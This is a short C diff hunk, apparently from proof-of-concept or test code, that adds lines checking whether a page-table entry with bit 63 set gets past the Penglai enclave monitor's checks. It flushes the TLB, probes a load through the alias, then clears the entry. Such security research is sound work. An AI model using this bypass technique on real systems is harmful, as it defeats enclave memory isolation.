@@ -234,6 +234,9 @@ static int cmd_set_pte_secure(void)
 	/* bit 63 set: Penglai skips its checks for such "PGD values" */
 	say("attack.bit63", set_pte((u64)pte, pa_pte(b + 3 * PAGE, PTE_KERNEL) | (1UL << 63)));
 	sayx("attack.bit63_entry", *pte);
+	flush_tlb();
+	sayp("attack.bit63_use", probe_load(ALIAS_VA));
+	set_pte((u64)pte, 0); /* a legitimate write: in case the entry was stored */
 
 	u64 *src = (u64 *)alloc_pages(1);
 	src[0] = pa_pte(pub, PTE_KERNEL);
